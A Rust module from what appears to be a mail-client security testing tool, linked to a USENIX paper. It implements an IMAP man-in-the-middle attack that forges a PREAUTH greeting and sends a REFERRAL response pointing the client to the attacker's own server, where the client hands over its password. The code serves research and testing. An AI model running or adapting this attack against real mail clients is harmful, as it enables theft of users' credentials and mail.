//! Claims a login and sends the client to its own server for the mailbox.

use super::cert_cname_dns::OWN_MACHINE;
use super::group::USENIX;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side};
use crate::harm::success;
use crate::trace::Verb;

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.referrals=followed"],
        right: &[],
        wrong: &["client.accept-preauth=on", "client.referrals-in-clear=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.referrals=followed"],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.referrals-in-clear=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "referral-mailbox",
    title: "Refer the mailbox elsewhere",
    about: "Turns the greeting into PREAUTH and says about the first mailbox that it is kept on a server of the attacker's, where the client logs in with its password.",
    group: Group::Texts,
    known: &[USENIX],
    protocols: &[Protocol::Imap],
    switches: &[],
    build: |_, dialect| {
        let mut sent_away = false;
        tamper(move |message, moves| {
            let work = match message.from {
                // At its own server it does as the client wants.
                _ if sent_away => None,
                Side::Client => dialect.tag_of(Verb::Mailbox, message.octets),
                Side::Server => None,
            };
            match work {
                Some(tag) => {
                    sent_away = true;
                    let url = format!("imap://tim;AUTH=*@{OWN_MACHINE}/INBOX");
                    let answer = format!(" NO [REFERRAL {url}] it is kept there\r\n");
                    moves.answer([&tag, answer.as_bytes()].concat());
                }
                None if message.is_greeting() && !sent_away => {
                    moves.replace(
                        b"* PREAUTH [CAPABILITY IMAP4rev1 MAILBOX-REFERRALS] welcome back\r\n".to_vec(),
                    );
                }
                None => moves.pass(),
            }
        })
    },
    success: &success::SENT_AWAY,
    deciding: DECIDING,
};
